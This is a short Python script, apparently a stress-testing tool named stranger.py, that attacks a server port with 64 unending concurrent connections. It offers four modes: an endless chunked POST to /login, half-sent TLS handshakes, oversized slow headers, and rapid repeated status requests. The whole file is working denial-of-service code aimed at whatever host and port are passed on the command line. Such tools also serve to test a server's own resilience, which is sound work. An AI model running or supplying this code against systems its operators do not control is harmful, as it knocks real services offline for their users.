"""A caller without a token that attacks the server's port as hard as one process can: `stranger.py HOST PORT WAY`."""

import asyncio
import sys
from collections.abc import Awaitable, Callable
from contextlib import suppress

CONNECTIONS = 64
"""Connections at a time."""

Call = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]


async def a_body_in_many_chunks(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(b"POST /login HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
    for _ in range(10_000):
        writer.write(b"1\r\nx\r\n" * 64)
        await writer.drain()


async def half_a_handshake(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(b"\x16\x03\x01")
    await writer.drain()


async def half_a_head(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(b"GET / HTTP/1.1\r\n" + b"".join(b"X-%d: %s\r\n" % (n, b"x" * 8000) for n in range(100)))
    await writer.drain()
    await reader.read()


async def many_requests(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    for _ in range(100):
        writer.write(b"GET /v1/status HTTP/1.1\r\nHost: x\r\n\r\n")
        await writer.drain()
        await reader.readuntil(b"\r\n\r\n")


WAYS: dict[str, Call] = {
    call.__name__.replace("_", " "): call
    for call in (a_body_in_many_chunks, half_a_handshake, half_a_head, many_requests)
}


async def work(host: str, port: int, call: Call) -> None:
    """Call repeatedly, after any answer, as long as this process lives."""

    async def calls() -> None:
        while True:
            with suppress(OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
                reader, writer = await asyncio.open_connection(host, port)
                try:
                    await call(reader, writer)
                finally:
                    writer.close()
            await asyncio.sleep(0.01)  # pause after a refusal

    await asyncio.gather(*(calls() for _ in range(CONNECTIONS)))


if __name__ == "__main__":
    _, host, port, way = sys.argv
    asyncio.run(work(host, int(port), WAYS[way]))
